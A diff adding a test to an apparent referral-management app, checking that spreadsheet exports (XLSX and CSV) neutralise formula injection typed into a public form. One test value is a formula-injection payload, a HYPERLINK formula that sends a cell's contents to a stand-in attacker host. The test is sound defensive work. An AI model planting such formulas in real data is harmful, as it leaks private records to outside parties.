@@ -179,6 +179,23 @@ def test_it_exports_events_as_excel(client, intake, referrals):
     assert AccessLogEntry.objects.get(action="export").object_id == f"{len(rows) - 1} rows"
 
 
+def test_it_exports_a_senders_text_as_text_never_as_a_formula(client, intake, line, clinician):
+    """A reason typed on the public form like '=HYPERLINK(...)' must not become a live formula
+    in the spreadsheet a manager opens."""
+    formula = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
+    referral = factories.referral(line=line, clinician=clinician, actor=intake)
+    Referral.objects.filter(pk=referral.pk).update(reason=formula, referrer_as_given="@SUM(1)")
+    sign_in(client, intake)
+    _, body = download(client, dataset="referrals", format="xlsx")
+    sheet = load_workbook(io.BytesIO(body)).active
+    header = [c.value for c in sheet[1]]
+    reason = sheet.cell(row=2, column=header.index("reason") + 1)
+    assert (reason.value, reason.data_type) == (formula, "s")
+    _, body = download(client, dataset="referrals", format="csv")
+    row = next(csv.DictReader(io.StringIO(body.decode())))
+    assert (row["reason"], row["referrer_as_given"]) == ("'" + formula, "'@SUM(1)")
+
+
 def test_it_exports_clocks_as_parquet(client, intake, referrals):
     response, body = download(sign_in(client, intake), dataset="clocks", format="parquet")
     table = pq.read_table(io.BytesIO(body))
